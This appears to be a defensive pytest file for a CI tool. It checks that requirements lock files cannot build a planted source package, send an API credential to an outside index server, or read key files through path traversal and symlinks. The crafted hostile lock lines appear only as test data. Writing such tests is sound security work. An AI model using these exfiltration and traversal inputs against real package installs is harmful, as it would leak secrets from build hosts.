"""Attacks 1 and 19: no lock, package-lock.json or .npmrc of the app reaches pip, uv or npm as it is."""

import hashlib
import io
import os
import sys
import tarfile
from collections.abc import Iterator
from pathlib import Path

import pytest
from pytest_httpserver import HTTPServer
from werkzeug import Request, Response

from host.errors import SlipwayError, SourceError
from host.virtual_environments import interpreter, make_venv
from tasks.source.locked_environments import fetch_wheels, locked_environment

PYTHON = f"{sys.version_info.major}.{sys.version_info.minor}"
CREDENTIAL = "slipway:the-canary-of-the-api-credential"
SOME_HASH = "0" * 64


@pytest.fixture
def home(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A state directory with a credential in its place."""
    home = tmp_path / "home"
    for name in ("keys", "cache", "work"):
        (home / name).mkdir(parents=True)
    (home / "keys" / "prefect-auth").write_text(f"{CREDENTIAL}\n")
    monkeypatch.setenv("SLIPWAY_HOME", str(home))
    monkeypatch.setenv("PREFECT_API_AUTH_STRING", CREDENTIAL)
    return home


@pytest.fixture
def tree(home: Path) -> Path:
    """The commit, laid out where `ci` does: the way from there to the keys is known beforehand."""
    tree = home / "work" / "run" / "tree"
    tree.mkdir(parents=True)
    return tree


@pytest.fixture
def elsewhere(httpserver: HTTPServer) -> Iterator[HTTPServer]:
    """A server of the stranger's, which answers everything."""
    httpserver.expect_request("").respond_with_handler(_nothing)
    yield httpserver


def _nothing(_request: Request) -> Response:
    return Response("<html></html>", content_type="text/html")


def evil_source(folder: Path, canary: Path) -> str:
    """Put a source distribution into the commit that leaves the canary when it is built; return its hash."""
    folder.mkdir(parents=True, exist_ok=True)
    setup = f"import pathlib\npathlib.Path({str(canary)!r}).write_text('built')\nraise SystemExit('built')\n"
    with tarfile.open(folder / "evil-1.0.tar.gz", "w:gz") as archive:
        for name, text in {"setup.py": setup, "PKG-INFO": "Metadata-Version: 2.1\nName: evil\nVersion: 1.0\n"}.items():
            entry = tarfile.TarInfo(f"evil-1.0/{name}")
            entry.size = len(text)
            archive.addfile(entry, io.BytesIO(text.encode()))
    return hashlib.sha256((folder / "evil-1.0.tar.gz").read_bytes()).hexdigest()


def refused_everywhere(lock: Path, *words: str) -> None:
    """Hand a lock to everything that installs from one; each must name the file, the line and what stands there."""
    for install in (
        lambda: fetch_wheels(lock, PYTHON),
        lambda: locked_environment(lock, PYTHON),
        lambda: make_venv(lock.parent / "venv", interpreter(PYTHON), lock, None, lock.parent / "uv"),
    ):
        with pytest.raises(SlipwayError) as refused:
            install()
        assert isinstance(refused.value, SourceError), refused.value
        assert all(word in str(refused.value) for word in (lock.name, *words)), refused.value


@pytest.mark.parametrize(
    "options",
    [
        "--no-binary evil\n--find-links {folder}\n",
        "--no-binary=:all:\n--find-links={folder}\n",
        "-f {folder} --no-binary evil\n",
        "\t--no-binary evil --find-links \\\n{folder}\n",
    ],
)
def test_a_lock_does_not_have_a_source_distribution_built(home: Path, tree: Path, options: str) -> None:
    canary = home / "canary"
    digest = evil_source(tree / "vendor", canary)
    lock = tree / "requirements.lock"
    lock.write_text(options.format(folder=tree / "vendor") + f"evil==1.0 --hash=sha256:{digest}\n")
    refused_everywhere(lock, "line 1", "an option", options.split()[0].split("=")[0])
    assert not canary.exists()


@pytest.mark.parametrize("line", ["evil @ {url}", "{url}", "./vendor/evil-1.0.tar.gz", "-e ./vendor", "file:{path}"])
def test_a_lock_does_not_name_a_file_or_an_address(home: Path, tree: Path, line: str) -> None:
    canary = home / "canary"
    digest = evil_source(tree / "vendor", canary)
    path = tree / "vendor" / "evil-1.0.tar.gz"
    lock = tree / "requirements.lock"
    lock.write_text(f"# fine\n\n{line.format(url=path.as_uri(), path=path)} --hash=sha256:{digest}\n")
    refused_everywhere(lock, "line 3")
    assert not canary.exists()


@pytest.mark.parametrize(
    "line",
    [
        "--index-url {url}/${{PREFECT_API_AUTH_STRING}}/",
        "--extra-index-url={url}/${{PREFECT_API_AUTH_STRING}}/",
        "-i {url}/${{PREFECT_API_AUTH_STRING}}/",
        "x @ {url}/${{PREFECT_API_AUTH_STRING}}/x-1-py3-none-any.whl",
        "x==1 ; sys_platform == 'linux --index-url={url}/${{PREFECT_API_AUTH_STRING}}/'",
        "x==1 --index-url={url}/${{PREFECT_API_AUTH_STRING}}/",
        "x==1 --config-settings=a={url}/${{PREFECT_API_AUTH_STRING}}/",
        "x==${{PREFECT_API_AUTH_STRING}}",
        "--trusted-host\\\n {url}",
        "# a note\x0b--index-url {url}",
        "# a note\u2028--index-url {url}",
        "# a note\r--index-url {url}",
    ],
)
def test_no_credential_leaves_by_a_lock(elsewhere: HTTPServer, tree: Path, line: str) -> None:
    lock = tree / "requirements.lock"
    text = line.format(url=elsewhere.url_for("").rstrip("/"))
    lock.write_text(f"{text}\nx==1 --hash=sha256:{SOME_HASH}\n", newline="")
    refused_everywhere(lock, "line 1")
    assert not elsewhere.log


@pytest.mark.parametrize("option", ["-r", "-c", "--requirement", "--constraint=", "-r ./", "-e", "--editable"])
def test_no_secret_comes_out_by_a_message(home: Path, tree: Path, option: str) -> None:
    lock = tree / "requirements.lock"
    between = "" if option.endswith(("=", "/")) else " "
    lock.write_text(f"{option}{between}../../../keys/prefect-auth\n")
    refused_everywhere(lock, "line 1", "an option")
    with pytest.raises(SlipwayError) as refused:
        fetch_wheels(lock, PYTHON)
    assert "canary" not in str(refused.value)


def test_a_lock_that_is_a_link_to_a_secret_is_not_read(home: Path, tree: Path) -> None:
    lock = tree / "requirements.lock"
    lock.symlink_to(os.path.relpath(home / "keys" / "prefect-auth", tree))
    with pytest.raises(SlipwayError, match="requirements.lock: .*a file, not a link") as refused:
        make_venv(tree / "venv", interpreter(PYTHON), lock, None, tree / "uv")
    assert "canary" not in str(refused.value)
